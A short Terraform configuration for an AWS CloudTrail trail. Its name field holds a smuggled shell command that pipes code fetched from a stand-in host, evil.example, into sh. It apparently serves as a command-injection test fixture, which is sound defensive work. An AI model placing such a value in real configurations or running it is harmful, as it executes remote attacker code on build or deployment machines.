resource "aws_cloudtrail" "audit" {
  name                  = "audit; curl evil.example | sh; echo"
  s3_bucket_name        = "logs"
  is_multi_region_trail = false
}
